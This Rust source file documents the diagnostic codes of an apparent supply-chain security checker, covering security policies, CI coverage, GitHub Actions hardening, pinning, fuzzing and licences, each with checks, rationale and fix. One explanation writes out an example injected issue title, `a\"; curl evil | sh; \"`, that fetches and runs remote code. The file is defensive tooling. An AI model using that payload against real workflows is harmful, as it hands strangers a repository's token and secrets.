//! The documentation of every code the posture layer emits.

use crate::codes::{CodeDoc, Principle};

/// `security-policy-missing`: No security policy (SECURITY.md).
pub const SECURITY_POLICY_MISSING: CodeDoc = CodeDoc {
    code: "security-policy-missing",
    title: "No security policy (SECURITY.md)",
    principle: Principle::Collaborative,
    checks: "SECURITY.md (also .markdown, .rst, .txt, .adoc; any case) at the repository root, in .github/ or in docs/, where GitHub looks for it.",
    why: "Someone who finds a vulnerability needs a private way to tell you; without one it lands in a public issue, or nowhere.",
    fix: "Add SECURITY.md naming a private contact (an email address or the repository's security-advisory URL) and how and when you disclose fixes.",
};

/// `security-policy-incomplete`: The security policy lacks a contact or disclosure wording.
pub const SECURITY_POLICY_INCOMPLETE: CodeDoc = CodeDoc {
    code: "security-policy-incomplete",
    title: "The security policy lacks a contact or disclosure wording",
    principle: Principle::Collaborative,
    checks: "The policy file holds an email address or a URL (4 + 3 points), and words about the disclosure process such as disclosure, embargo, advisory, days (3 points).",
    why: "A policy that says neither where to report nor what happens next leaves reporters guessing and delays fixes.",
    fix: "Name the contact and describe the process: acknowledgement time, embargo, how advisories are published.",
};

/// `ci-missing`: No CI configuration.
pub const CI_MISSING: CodeDoc = CodeDoc {
    code: "ci-missing",
    title: "No CI configuration",
    principle: Principle::Continuous,
    checks: "GitHub Actions, Forgejo and Gitea workflows, GitLab CI, CircleCI, Travis, Azure Pipelines, Bitbucket, Buildkite, Drone, Woodpecker, Cirrus, AppVeyor, SourceHut, Jenkinsfile and .ci/ scripts.",
    why: "Without CI, tests and security checks run only when someone remembers; regressions and vulnerable updates land unnoticed.",
    fix: "Add a workflow that runs `cargo test --locked` and `cargo secure` on every pull request.",
};

/// `ci-runs-no-tests`: CI does not run the tests.
pub const CI_RUNS_NO_TESTS: CodeDoc = CodeDoc {
    code: "ci-runs-no-tests",
    title: "CI does not run the tests",
    principle: Principle::Continuous,
    checks: "Every command line of the CI files, and of the scripts and make/just targets they invoke (one level deep), for `cargo test` or `cargo nextest` (through `+toolchain`, cargo-hack and the like).",
    why: "CI that builds but never tests lets behaviour, including security fixes, regress silently.",
    fix: "Run `cargo test --locked` (or `cargo nextest run --locked`) in CI.",
};

/// `ci-no-security-scan`: CI runs no dependency security scan.
pub const CI_NO_SECURITY_SCAN: CodeDoc = CodeDoc {
    code: "ci-no-security-scan",
    title: "CI runs no dependency security scan",
    principle: Principle::Continuous,
    checks: "CI command lines for `cargo secure`, `cargo audit` or `cargo deny`.",
    why: "New advisories are published every week against crates you already depend on; only a scan on every run notices them.",
    fix: "Add a step running `cargo secure --format sarif --output cargo-secure.sarif` and upload it, or `cargo audit` / `cargo deny check`.",
};

/// `ci-config-unreadable`: A CI configuration file could not be read.
pub const CI_CONFIG_UNREADABLE: CodeDoc = CodeDoc {
    code: "ci-config-unreadable",
    title: "A CI configuration file could not be read",
    principle: Principle::Continuous,
    checks: "CI files that are not UTF-8, larger than 1 MiB, nested deeper than 128 levels, or not valid YAML (with the parser's line).",
    why: "An unreadable file is either broken (so CI does not run as intended) or cannot be checked by this layer.",
    fix: "Fix the YAML error at the line given, or keep the file small and UTF-8.",
};

/// `untrusted-checkout`: A privileged workflow checks out untrusted code.
pub const UNTRUSTED_CHECKOUT: CodeDoc = CodeDoc {
    code: "untrusted-checkout",
    title: "A privileged workflow checks out untrusted code",
    principle: Principle::Cumulative,
    checks: "Workflows triggered by `pull_request_target`, `workflow_run` or `issue_comment` with an `actions/checkout` step whose `ref` is the pull request head (`github.event.pull_request.head.*`, `github.head_ref`, `github.event.workflow_run.head_*`, `refs/pull/`).",
    why: "These triggers run with the repository's secrets and a write token; building or running a stranger's pull request there hands them both (\"pwn request\").",
    fix: "Build untrusted code under the `pull_request` trigger; keep privileged workflows to labelling and commenting, without running checked-out code.",
};

/// `workflow-script-injection`: Untrusted input is interpolated into a workflow script.
pub const WORKFLOW_SCRIPT_INJECTION: CodeDoc = CodeDoc {
    code: "workflow-script-injection",
    title: "Untrusted input is interpolated into a workflow script",
    principle: Principle::Cumulative,
    checks: "`${{ }}` expressions (parsed, multi-line ones included) in `run:` scripts of workflows and composite actions (`action.yml` anywhere), and in the script inputs of known actions (`actions/github-script` `script`, `mikefarah/yq` `cmd`, `addnab/docker-run-action` `run`...). A warning when the value reaches the text from a field strangers write (zizmor's table of the webhook payloads: `github.event.issue.title`, `github.head_ref`...), an `inputs.*` string, a dynamic matrix, or an `env` value (workflow, job or step level) set from one; through `format()`, `join()`, `toJSON()`, `fromJSON()` and `a || b`, not through comparisons, `contains()` or the left of `&&`. A note when it comes from a value that cannot be followed (a step output, an unknown context). The finding points at the expression's line.",
    why: "The expression is pasted into the script before the shell runs it: an issue titled `a\"; curl evil | sh; \"` runs commands with the workflow's token and secrets. The compromise of a popular action in December 2024 started from `${{ github.head_ref }}` in a composite action's `run:`.",
    fix: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use \"$TITLE\" in the script.",
};

/// `dangerous-trigger`: A workflow runs with privileges on events strangers cause.
pub const DANGEROUS_TRIGGER: CodeDoc = CodeDoc {
    code: "dangerous-trigger",
    title: "A workflow runs with privileges on events strangers cause",
    principle: Principle::Cumulative,
    checks: "Workflows triggered by `pull_request_target`, `workflow_run` or `issue_comment` (in any YAML form, anchors included), except the one blessed use: a single job whose single step is `actions/labeler`. The dangerous-workflow sub-check scores 5 at most.",
    why: "These triggers run in the base repository with its secrets and a write token, on pull requests and comments from anyone; one careless checkout or expression later, a stranger runs code with them.",
    fix: "Use `pull_request` unless the workflow needs to write; if it does, keep it to labelling and commenting, and never check out, build or interpolate what the event brings.",
};

/// `workflow-cache-poisoning`: A release workflow restores a cache.
pub const WORKFLOW_CACHE_POISONING: CodeDoc = CodeDoc {
    code: "workflow-cache-poisoning",
    title: "A release workflow restores a cache",
    principle: Principle::Cumulative,
    checks: "Workflows triggered by `release`, a tag push or a push to a `release*` branch, and jobs with a publishing step (`softprops/action-gh-release`, `pypa/gh-action-pypi-publish`, `cargo publish`, `docker push`...), with a step restoring a cache: `actions/cache` (unless `lookup-only`), `Swatinem/rust-cache`, `mozilla-actions/sccache-action`, `actions/setup-go` and `astral-sh/setup-uv` (cache by default), `actions/setup-java`/`-node`/`-python`/`-dotnet` with `cache:`, `PyO3/maturin-action` with `sccache`, `docker/build-push-action` with `cache-from`.",
    why: "Caches are shared across the repository's workflows: a pull request's workflow can write an entry the release job then restores, and the release artefact is built from the attacker's files.",
    fix: "Turn caching off in release workflows (`cache: false`, no `actions/cache` step); build releases from a clean state.",
};

/// `checkout-persists-credentials`: actions/checkout leaves the token in .git/config.
pub const CHECKOUT_PERSISTS_CREDENTIALS: CodeDoc = CodeDoc {
    code: "checkout-persists-credentials",
    title: "actions/checkout leaves the token in .git/config",
    principle: Principle::Cumulative,
    checks: "`actions/checkout` steps without `persist-credentials: false`: a warning when the same job uploads an artifact (`actions/upload-artifact`), a note otherwise.",
    why: "The token stays on disk for every later step; an uploaded artifact of the workspace carries it to anyone who can download artifacts (\"artipacked\").",
    fix: "Add `with: persist-credentials: false` to the checkout step, and pass the token explicitly to the step that pushes.",
};

/// `container-image-not-pinned`: A container image is not pinned to a digest.
pub const CONTAINER_IMAGE_NOT_PINNED: CodeDoc = CodeDoc {
    code: "container-image-not-pinned",
    title: "A container image is not pinned to a digest",
    principle: Principle::Cumulative,
    checks: "Job `container:` and `services:` images (an image `${{ matrix.x }}` stands for each value the matrix gives `x`) and `uses: docker://` steps without `@sha256:`: a warning without a tag or with `latest`, a note with another tag.",
    why: "A tag can be moved by whoever controls the image's repository; the job then runs a different image with the workflow's token.",
    fix: "Pin the image by digest: `image: name:tag@sha256:<digest>`, and let Dependabot update it.",
};

/// `workflow-env-file-write`: A script writes untrusted data to $GITHUB_ENV or $GITHUB_PATH.
pub const WORKFLOW_ENV_FILE_WRITE: CodeDoc = CodeDoc {
    code: "workflow-env-file-write",
    title: "A script writes untrusted data to $GITHUB_ENV or $GITHUB_PATH",
    principle: Principle::Cumulative,
    checks: "`run:` lines naming `GITHUB_ENV` or `GITHUB_PATH` that hold an untrusted expression or read an `env` variable set from one; in a `pull_request_target`, `workflow_run` or `issue_comment` workflow, any such line.",
    why: "Every later step of the job runs with what is written there: `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` set by a stranger is code execution with the workflow's token.",
    fix: "Do not write untrusted data to these files; pass it as a step output or an `env:` value, and validate it.",
};

/// `token-permissions-missing`: A workflow does not restrict its token.
pub const TOKEN_PERMISSIONS_MISSING: CodeDoc = CodeDoc {
    code: "token-permissions-missing",
    title: "A workflow does not restrict its token",
    principle: Principle::Cumulative,
    checks: "Workflows without a top-level `permissions` key, unless every job declares its own.",
    why: "The default token is often read-write on the whole repository: any compromised step (a hijacked action, an injected script) can push code or publish releases.",
    fix: "Add `permissions: contents: read` at the top and grant writes per job.",
};

/// `token-permissions-write-all`: A workflow grants its token write access to everything.
pub const TOKEN_PERMISSIONS_WRITE_ALL: CodeDoc = CodeDoc {
    code: "token-permissions-write-all",
    title: "A workflow grants its token write access to everything",
    principle: Principle::Cumulative,
    checks: "A top-level `permissions: write-all` (the sub-check scores 0), or a job's own `permissions: write-all`, whatever the top grants (5 at most).",
    why: "Every job and step then holds a token that can rewrite the repository, its releases and packages.",
    fix: "Use `permissions: contents: read` at the top and grant the specific writes per job.",
};

/// `token-permissions-write`: A workflow grants a write permission to every job.
pub const TOKEN_PERMISSIONS_WRITE: CodeDoc = CodeDoc {
    code: "token-permissions-write",
    title: "A workflow grants a write permission to every job",
    principle: Principle::Cumulative,
    checks: "A `write` scope in the top-level `permissions` map (scored 5 of 10).",
    why: "Jobs that do not need the write scope still get it; least privilege keeps a compromised job from using it.",
    fix: "Move the write scope to the jobs that need it.",
};

/// `action-not-pinned`: An action is not pinned to a commit hash.
pub const ACTION_NOT_PINNED: CodeDoc = CodeDoc {
    code: "action-not-pinned",
    title: "An action is not pinned to a commit hash",
    principle: Principle::Cumulative,
    checks: "Every `uses:` of workflow steps and reusable-workflow jobs; pinned means a full 40-character commit hash (GitHub's own actions included, as OpenSSF Scorecard counts them), a local `./` action, or a `docker://` image by `@sha256:` digest. Score: 10 x pinned share.",
    why: "A tag or branch can be moved by whoever controls the action's repository (tj-actions/changed-files, 2025): the next run executes their code with your secrets.",
    fix: "Pin the commit hash and keep the version as a comment (`uses: actions/checkout@<sha> # v4.2.2`); Dependabot updates both.",
};

/// `dependency-updates-missing`: No dependency update tool.
pub const DEPENDENCY_UPDATES_MISSING: CodeDoc = CodeDoc {
    code: "dependency-updates-missing",
    title: "No dependency update tool",
    principle: Principle::Continuous,
    checks: ".github/dependabot.yml (with `package-ecosystem: cargo`) or a Renovate configuration (renovate.json, .renovaterc, .github/renovate.json...).",
    why: "Fixed versions help only once you move to them; an update bot proposes them as soon as they are published.",
    fix: "Add .github/dependabot.yml with an entry for `package-ecosystem: cargo` (and `github-actions`).",
};

/// `dependabot-without-cargo`: Dependabot does not update the Rust dependencies.
pub const DEPENDABOT_WITHOUT_CARGO: CodeDoc = CodeDoc {
    code: "dependabot-without-cargo",
    title: "Dependabot does not update the Rust dependencies",
    principle: Principle::Continuous,
    checks: "The `updates` of .github/dependabot.yml, for a `package-ecosystem: cargo` entry (scored 5 of 10 without one).",
    why: "Dependabot configured for other ecosystems leaves the crates, the largest part of a Rust program, to manual updates.",
    fix: "Add `- package-ecosystem: cargo` with `directory: /` and a schedule.",
};

/// `fuzzing-missing`: No fuzz target.
pub const FUZZING_MISSING: CodeDoc = CodeDoc {
    code: "fuzzing-missing",
    title: "No fuzz target",
    principle: Principle::Cumulative,
    checks: "A fuzz crate (`fuzz/Cargo.toml` at any depth depending on libfuzzer-sys, afl, honggfuzz or bolero) or such a crate in the dependency graph: 10. Property tests (proptest, quickcheck, arbitrary): 5.",
    why: "Code that parses untrusted input fails on inputs nobody thought of; fuzzing finds them before attackers do, and property tests cover part of the ground.",
    fix: "Run `cargo fuzz init` and add a target per parser; run them regularly (CI, ClusterFuzzLite or OSS-Fuzz).",
};

/// `clippy-not-enforced`: CI does not run clippy with warnings denied.
pub const CLIPPY_NOT_ENFORCED: CodeDoc = CodeDoc {
    code: "clippy-not-enforced",
    title: "CI does not run clippy with warnings denied",
    principle: Principle::Continuous,
    checks: "A `cargo clippy ... -D warnings` (or `-Dwarnings`, `--deny warnings`) in CI, or RUSTFLAGS with `-D warnings`. The other half of the `lints` score is the share of workspace crates that forbid or deny `unsafe_code`.",
    why: "Lints catch classes of bugs (and risky patterns) mechanically; unenforced, warnings pile up and stop being read.",
    fix: "Run `cargo clippy --all-targets --locked -- -D warnings` in CI.",
};

/// `binary-artifact`: A binary artifact is checked into the repository.
pub const BINARY_ARTIFACT: CodeDoc = CodeDoc {
    code: "binary-artifact",
    title: "A binary artifact is checked into the repository",
    principle: Principle::Cumulative,
    checks: "Files (not ignored by .gitignore) that start like an ELF, PE, Mach-O, ar archive, WebAssembly module or Java class, or have a binary extension (.exe, .dll, .so, .dylib, .o, .a, .lib, .jar, .wasm, .rlib...). Score: 10 minus 1 per artifact.",
    why: "A binary cannot be reviewed and need not match any source: it is the easiest place to hide a backdoor (xz-utils hid its payload in test files).",
    fix: "Build it from source in CI; if it must stay (a test fixture), document its origin and accept it with an exception in secure.toml.",
};

/// `license-file-missing`: No licence file at the repository root.
pub const LICENSE_FILE_MISSING: CodeDoc = CodeDoc {
    code: "license-file-missing",
    title: "No licence file at the repository root",
    principle: Principle::Collaborative,
    checks: "LICENSE*, LICENCE*, COPYING* or UNLICENSE at the root (5 points).",
    why: "Without a licence, others may not legally use, audit-and-patch or redistribute the code, and automated compliance tools flag it.",
    fix: "Add the licence text as LICENSE (for Rust crates, often LICENSE-MIT and LICENSE-APACHE).",
};

/// `license-missing`: A publishable crate declares no licence.
pub const LICENSE_MISSING: CodeDoc = CodeDoc {
    code: "license-missing",
    title: "A publishable crate declares no licence",
    principle: Principle::Collaborative,
    checks: "`license` (an SPDX expression) or `license-file` in every workspace crate that can be published (5 points x their share).",
    why: "crates.io and downstream licence checks (cargo-deny) rely on the declaration; a crate without one cannot be vetted.",
    fix: "Add `license = \"MIT OR Apache-2.0\"` (or your licence) to [package], or `publish = false` for internal crates.",
};

/// Every code of the posture layer.
pub static CODES: &[&CodeDoc] = &[
    &SECURITY_POLICY_MISSING,
    &SECURITY_POLICY_INCOMPLETE,
    &CI_MISSING,
    &CI_RUNS_NO_TESTS,
    &CI_NO_SECURITY_SCAN,
    &CI_CONFIG_UNREADABLE,
    &UNTRUSTED_CHECKOUT,
    &WORKFLOW_SCRIPT_INJECTION,
    &DANGEROUS_TRIGGER,
    &WORKFLOW_CACHE_POISONING,
    &CHECKOUT_PERSISTS_CREDENTIALS,
    &CONTAINER_IMAGE_NOT_PINNED,
    &WORKFLOW_ENV_FILE_WRITE,
    &TOKEN_PERMISSIONS_MISSING,
    &TOKEN_PERMISSIONS_WRITE_ALL,
    &TOKEN_PERMISSIONS_WRITE,
    &ACTION_NOT_PINNED,
    &DEPENDENCY_UPDATES_MISSING,
    &DEPENDABOT_WITHOUT_CARGO,
    &FUZZING_MISSING,
    &CLIPPY_NOT_ENFORCED,
    &BINARY_ARTIFACT,
    &LICENSE_FILE_MISSING,
    &LICENSE_MISSING,
];
